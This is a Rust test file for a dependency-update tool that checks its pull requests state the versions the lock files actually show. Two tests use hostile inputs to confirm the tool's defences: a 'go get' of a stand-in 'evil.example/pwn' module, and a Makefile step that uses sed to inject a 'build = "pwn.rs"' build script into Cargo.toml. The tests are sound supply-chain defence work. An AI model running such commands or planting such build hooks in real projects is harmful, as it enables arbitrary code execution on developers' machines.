//! What a PR states comes from the lock files, never from the plan's claims.

use crate::common::go_proxy::GoProxy;
use crate::common::npm_registry::NpmRegistry;
use crate::common::*;
use serde_json::json;

/// Pins greeting to 1.0.0 (`greeting = "=1.0.0"`) on the default branch.
fn pin_greeting(f: &Fixture) {
    let manifest = f
        .show("main", "Cargo.toml")
        .replace("greeting = \"1.0\"", "greeting = \"=1.0.0\"");
    f.commit_file("main", "Cargo.toml", &manifest);
}

/// `greeting = "=1.0.0"`: `cargo update -p greeting` exits 0 and moves nothing, while the batch's
/// other update does move. The batch is not published as if greeting had reached 1.0.1.
#[test]
fn an_update_held_back_by_a_pin_stops_the_batch() {
    let f = Fixture::new();
    pin_greeting(&f);
    let mut action = create_mr("quartermaster/cargo", &[greeting(), farewell()], "batch");
    action["commands"] = json!(["cargo update -p greeting", "cargo update -p farewell"]);
    let run = f.run(&plan(vec![action]), &[]);
    assert_eq!(run.code, 1, "{}", run.said());
    assert_eq!(run.status(0), "failed");
    assert_eq!(
        run.reason(0),
        "[update.not_reached] `greeting` stayed at 1.0.0 in Cargo.lock: the commands did not update it, so it did not reach 1.0.1 (a requirement such as an `=` pin or a range may hold it back); drop the update from the unit or change what holds it"
    );
    let changes = &run.action(0)["changes"][0];
    assert_eq!(changes["direct"][0]["package"], "farewell");
    assert_eq!(changes["direct"][0]["to"], "2.0.1");
    assert_eq!(changes["findings"][0]["code"], "update.not_reached");
    assert!(
        run.action(0)["test"].is_null(),
        "nothing unverified is tested"
    );
    assert!(f.pulls().is_empty());
    assert_eq!(f.branches().len(), 1, "nothing pushed");
}

/// Alone in its unit, an update the pin holds back changes nothing: the unit fails as not
/// reached (it is not "no changes"), whether it is the only one or split from a batch.
#[test]
fn a_pinned_update_alone_fails_its_unit() {
    let f = Fixture::new();
    pin_greeting(&f);
    let makefile = f.show("main", "Makefile") + "\nok:\n\ttrue\n";
    f.commit_file("main", "Makefile", &makefile);
    let mut alone = create_mr("quartermaster/alone", &[greeting()], "batch");
    alone["commands"] = json!(["cargo update -p greeting"]);
    let mut split = create_mr(
        "quartermaster/split",
        &[greeting(), farewell()],
        "individual",
    );
    split["commands"] = json!(["cargo update -p greeting", "cargo update -p farewell"]);
    split["test_command"] = json!("make ok");
    let run = f.run(&plan(vec![alone, split]), &[]);
    assert_eq!(run.code, 1, "{}", run.said());
    assert_eq!(run.status(0), "failed");
    assert!(
        run.reason(0)
            .starts_with("[update.not_reached] `greeting` stayed at 1.0.0 in Cargo.lock"),
        "{}",
        run.reason(0)
    );
    assert_eq!(run.action(0)["updates"][0]["landed"], false);
    assert_eq!(run.status(1), "partial", "{}", run.reason(1));
    let updates = &run.action(1)["updates"];
    assert_eq!(updates[0]["package"], "greeting");
    assert_eq!(updates[0]["landed"], false);
    assert_eq!(updates[1]["package"], "farewell");
    assert_eq!(updates[1]["landed"], true);
    let titles: Vec<String> = f
        .pulls()
        .iter()
        .map(|p| p["title"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(titles.len(), 1, "{titles:?}");
    assert!(titles[0].contains("farewell"), "{titles:?}");
}

/// The plan says greeting was at 0.9.0; the base locks 1.0.0. The PR, the commit and the report's
/// `from` say 1.0.0; the plan's claim is kept in the report only.
#[test]
fn a_false_from_never_reaches_the_pr() {
    let f = Fixture::new();
    let mut update = greeting();
    update["from"] = json!("0.9.0");
    let run = f.run(
        &plan(vec![create_mr("quartermaster/cargo", &[update], "batch")]),
        &[],
    );
    assert_eq!(run.code, 0, "{}", run.said());
    let body = f.pulls()[0]["body"].as_str().unwrap().to_string();
    assert!(body.contains("| `1.0.0` → `1.0.1` | patch |"), "{body}");
    assert!(!body.contains("0.9.0"), "{body}");
    let message = sh(&f.remote, "git log -1 --format=%B quartermaster/cargo");
    assert!(message.contains("- greeting: 1.0.0 -> 1.0.1"), "{message}");
    assert!(!message.contains("0.9.0"), "{message}");
    let reported = &run.action(0)["updates"][0];
    assert_eq!(reported["from"], "1.0.0");
    assert_eq!(reported["declared_from"], "0.9.0");
    assert!(reported.get("declared_to").is_none());
    assert!(
        run.stderr.contains("note [update.from_mismatch]"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_change_that_declares_no_update_is_refused() {
    let f = Fixture::new();
    let mut action = create_mr("quartermaster/cargo", &[], "batch");
    action["commands"] = json!(["cargo update -p greeting"]);
    let path = f.write_plan(&plan(vec![action]));
    let out = f.qm().arg("validate").arg(&path).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("error[updates.empty] /actions/0/updates: no updates: declare each dependency this action updates"),
        "{text}"
    );
}

/// An npm `create_mr` that updates `async` with `npm update async`.
fn async_update(branch: &str, from: &str, to: &str) -> serde_json::Value {
    json!({
        "type": "create_mr",
        "branch": branch,
        "title": "chore(deps): update async",
        "description": "A patch release of async.",
        "updates": [{"package": "async", "from": from, "to": to, "update_type": "patch"}],
        "commands": ["npm update async"],
        "test_command": "npm test",
        "labels": ["dependencies"],
        "fallback_strategy": "batch",
        "confidence": 0.9
    })
}

fn npm_plan(actions: Vec<serde_json::Value>) -> serde_json::Value {
    plan_tested_by("npm", "package-lock.json", "npm test", actions)
}

/// The lock has async 3.2.5 from a registry stand-in on 127.0.0.1; 3.2.6 is then released, and
/// 3.2.7 never is. A plan that claims `3.2.4 → 3.2.7` for `npm update async` (which moves the lock
/// to 3.2.6) fails, naming where it ended and the real `from`; the same update declared truly
/// lands, and its PR and commit state what package-lock.json says.
#[test]
fn npm_update_async_states_what_the_lock_did() {
    let Some(f) = Fixture::with_tool(&["npm", "--version"]) else {
        return;
    };
    let registry = NpmRegistry::async_app(&f);
    let plan = npm_plan(vec![
        async_update("quartermaster/async-claimed", "3.2.4", "3.2.7"),
        async_update("quartermaster/async", "3.2.5", "3.2.6"),
    ]);
    let npmrc = format!("npmrc={}", f.npmrc(&registry).display());
    let run = f.run_with(&plan, &[], &[("QM_TOOL_CONFIG", &npmrc)]);
    assert_eq!(run.code, 1, "{}", run.said());
    assert_eq!(run.status(0), "failed");
    assert_eq!(
        run.reason(0),
        "[update.not_reached] `async` ended at 3.2.6 in package-lock.json, not at the declared 3.2.7 (it was 3.2.5): declare 3.2.6 as `to`, or use a command that reaches 3.2.7"
    );
    assert!(
        run.stderr.contains(
            "note [update.from_mismatch]: `async` was declared from 3.2.4, but the base package-lock.json had 3.2.5; 3.2.5 is what gets published"
        ),
        "{}",
        run.stderr
    );
    let claimed = &run.action(0)["updates"][0];
    assert_eq!(
        (&claimed["from"], &claimed["to"]),
        (&json!("3.2.5"), &json!("3.2.6"))
    );
    assert_eq!(
        (&claimed["declared_from"], &claimed["declared_to"]),
        (&json!("3.2.4"), &json!("3.2.7"))
    );
    assert_eq!(claimed["landed"], false);
    assert_eq!(run.status(1), "done", "{}", run.said());
    let pulls = f.pulls();
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    assert_eq!(pulls[0]["head"], "quartermaster/async");
    let body = pulls[0]["body"].as_str().unwrap();
    assert!(
        body.contains("| `async` | `3.2.5` → `3.2.6` | patch |"),
        "{body}"
    );
    assert!(!body.contains("3.2.4") && !body.contains("3.2.7"), "{body}");
    let message = sh(&f.remote, "git log -1 --format=%B quartermaster/async");
    assert!(message.contains("- async: 3.2.5 -> 3.2.6"), "{message}");
    assert!(!message.contains("3.2.7"), "{message}");
    assert_eq!(
        sh(&f.remote, "git diff --name-only main quartermaster/async"),
        "package-lock.json"
    );
    let lock = f.show("quartermaster/async", "package-lock.json");
    let resolved = format!("\"resolved\": \"{}async/-/async-3.2.6.tgz\"", registry.url);
    assert!(lock.contains(&resolved), "{lock}");
    assert!(!f.branches().contains_key("quartermaster/async-claimed"));
    assert!(
        registry
            .requests
            .lock()
            .unwrap()
            .iter()
            .any(|p| p.ends_with("async-3.2.6.tgz")),
        "npm fetched the tarball from the stand-in"
    );
}

/// The base's package-lock.json is lockfileVersion 1 (as npm 6 wrote it); `npm update async`
/// by today's npm rewrites it as lockfileVersion 3. The PR states the change of format below its
/// table, the commit message and the report too, and nothing is blocked for it.
#[test]
fn npm_update_states_a_lock_rewritten_in_another_format() {
    let Some(f) = Fixture::with_tool(&["npm", "--version"]) else {
        return;
    };
    let registry = NpmRegistry::async_app_locked_by(
        &f,
        &[&[
            "npm",
            "install",
            "--package-lock-only",
            "--lockfile-version",
            "1",
        ]],
    );
    assert!(
        f.show("main", "package-lock.json")
            .contains("\"lockfileVersion\": 1,")
    );
    let plan = npm_plan(vec![async_update("quartermaster/async", "3.2.5", "3.2.6")]);
    let npmrc = format!("npmrc={}", f.npmrc(&registry).display());
    let run = f.run_with(&plan, &[], &[("QM_TOOL_CONFIG", &npmrc)]);
    assert_eq!(run.code, 0, "{}", run.said());
    assert_eq!(run.status(0), "done", "{}", run.said());
    let body = f.pulls()[0]["body"].as_str().unwrap().to_string();
    assert!(
        body.contains(
            "| `async` | `3.2.5` → `3.2.6` | patch |\n\nLock format: `package-lock.json` `1` → `3` (written by another tool version than before).\n"
        ),
        "{body}"
    );
    let message = sh(&f.remote, "git log -1 --format=%B quartermaster/async");
    assert!(
        message.contains("- async: 3.2.5 -> 3.2.6\n- package-lock.json format: 1 -> 3\n"),
        "{message}"
    );
    assert_eq!(
        run.action(0)["changes"][0]["lock_formats"],
        json!([{"ecosystem": "npm", "lock_file": "package-lock.json", "from": "1", "to": "3"}])
    );
}

/// `go get` of a module go.mod does not require would add it: refused before anything runs.
#[test]
fn go_get_cannot_add_a_module() {
    let f = Fixture::new();
    f.commit_file(
        "main",
        "go.mod",
        "module example.com/app\n\ngo 1.21\n\nrequire golang.org/x/text v0.14.0\n",
    );
    let mut action = create_mr(
        "quartermaster/pwn",
        &[
            json!({"package": "evil.example/pwn", "from": "v0.9.0", "to": "v1.0.0", "update_type": "minor"}),
        ],
        "batch",
    );
    action["commands"] = json!(["go get evil.example/pwn@v1.0.0"]);
    action["test_command"] = json!("make quick");
    let mut go_plan = plan(vec![action]);
    go_plan["repo_context"]["ecosystems"] = json!(["go"]);
    let run = f.run(&go_plan, &[]);
    assert_eq!(run.code, 1, "{}", run.said());
    assert_eq!(
        (run.status(0), run.reason(0)),
        (
            "denied",
            "`evil.example/pwn` is not a dependency the project declares in the repository root: Quartermaster updates dependencies, it does not add new ones"
        )
    );
    assert!(run.action(0)["commands"].as_array().unwrap().is_empty());
    assert!(f.pulls().is_empty());
}

/// The go.mod requires example.com/lib v1.0.0 from a module proxy stand-in (a `file://` GOPROXY);
/// v1.0.1 is then released. `go get example.com/lib@v1.0.1` runs in the sandbox against the proxy
/// alone, `go test ./...` passes, and the PR and commit state what go.mod says; the branch changes
/// go.mod and go.sum only.
#[test]
fn go_get_states_what_go_mod_did() {
    let Some(f) = Fixture::with_tool(&["go", "version"]) else {
        return;
    };
    let proxy = GoProxy::lib_app(&f);
    let run = proxy.run_update(&f, "local");
    assert_eq!(run.code, 0, "{}", run.said());
    assert_eq!(run.status(0), "done", "{}", run.said());
    let update = &run.action(0)["updates"][0];
    assert_eq!(
        (&update["from"], &update["to"]),
        (&json!("v1.0.0"), &json!("v1.0.1"))
    );
    assert_eq!(update["landed"], true);
    assert_eq!(update["test"], "passed");
    let pulls = f.pulls();
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    assert_eq!(pulls[0]["head"], "quartermaster/go-lib");
    let body = pulls[0]["body"].as_str().unwrap();
    assert!(
        body.contains("| [`example.com/lib`](https://pkg.go.dev/example.com/lib@v1.0.1) | `v1.0.0` → `v1.0.1` | patch |"),
        "{body}"
    );
    let message = sh(&f.remote, "git log -1 --format=%B quartermaster/go-lib");
    assert!(
        message.contains("- example.com/lib: v1.0.0 -> v1.0.1"),
        "{message}"
    );
    assert_eq!(
        sh(&f.remote, "git rev-list --count main..quartermaster/go-lib"),
        "1"
    );
    assert_eq!(
        sh(&f.remote, "git diff --name-only main quartermaster/go-lib"),
        "go.mod\ngo.sum"
    );
    let go_mod = f.show("quartermaster/go-lib", "go.mod");
    assert!(
        go_mod
            .lines()
            .any(|l| l == "require example.com/lib v1.0.1"),
        "{go_mod}"
    );
    let go_sum = f.show("quartermaster/go-lib", "go.sum");
    assert!(go_sum.contains("example.com/lib v1.0.1 h1:"), "{go_sum}");
}

/// The operator's npmrc drops `resolved` from lock files (`omit-lockfile-registry-resolved`), and
/// the plan calls `npm update async` a major `3.2.5 → 4.0.0` although `^3.2.5` keeps it in 3.x.
/// The unit is not published as a major: it fails, naming where async ended. The lost URLs are
/// no new source: the entries come from the registry the npmrc names, which the base used.
#[test]
fn a_major_npm_update_cannot_stay_within_range() {
    let Some(f) = Fixture::with_tool(&["npm", "--version"]) else {
        return;
    };
    let registry = NpmRegistry::async_app(&f);
    registry.publish("4.0.0");
    let npmrc = f.npmrc(&registry);
    let operator =
        std::fs::read_to_string(&npmrc).unwrap() + "omit-lockfile-registry-resolved=true\n";
    std::fs::write(&npmrc, operator).unwrap();
    let mut action = async_update("quartermaster/async-major", "3.2.5", "4.0.0");
    action["updates"][0]["update_type"] = json!("major");
    let tool_config = format!("npmrc={}", npmrc.display());
    let run = f.run_with(
        &npm_plan(vec![action]),
        &[],
        &[("QM_TOOL_CONFIG", &tool_config)],
    );
    assert_eq!(run.code, 1, "{}", run.said());
    assert_eq!(run.status(0), "failed", "{}", run.said());
    assert_eq!(
        run.reason(0),
        "[update.not_reached] `async` ended at 3.2.6 in package-lock.json, not at the declared 4.0.0 (it was 3.2.5): declare 3.2.6 as `to`, or use a command that reaches 4.0.0"
    );
    assert_eq!(run.action(0)["updates"][0]["landed"], false);
    assert!(f.pulls().is_empty());
    assert!(!f.branches().contains_key("quartermaster/async-major"));
}

/// An update tool that, besides updating, writes a non-dependency field of a manifest it may
/// change (as a gem's `extconf.rb` edited the Gemfile, or a survivor added a `postinstall`): the
/// file is allowed, the field is not, and nothing is pushed.
#[test]
fn a_manifest_field_written_during_the_update_is_denied() {
    let f = Fixture::new();
    let makefile = f.show("main", "Makefile")
        + "\ngreeting:\n\tcargo update -p greeting\n\tsed -i 's/^edition = \"2021\"$$/edition = \"2021\"\\nbuild = \"pwn.rs\"/' Cargo.toml\n";
    f.commit_file("main", "Makefile", &makefile);
    let mission = f.custom_mission(
        "hijacked",
        json!({"cargo": {"packages": "crates", "versions": "semver",
                         "commands": ["make <pkg>"], "files": ["Cargo.toml", "Cargo.lock"]}}),
    );
    let mut action = create_mr("quartermaster/cargo", &[greeting()], "batch");
    action["commands"] = json!(["make greeting"]);
    let flags: Vec<&str> = mission.iter().map(String::as_str).collect();
    let run = f.run(&plan(vec![action]), &flags);
    assert_eq!(run.code, 1, "{}", run.said());
    assert_eq!(run.status(0), "denied");
    assert_eq!(
        run.reason(0),
        "[change.manifest_field] `Cargo.toml: package.build` was added by the commands; an update may change only dependency entries, so the unit is denied: undo that change; nothing was pushed"
    );
    assert!(f.pulls().is_empty());
    assert!(!f.branches().contains_key("quartermaster/cargo"));
}
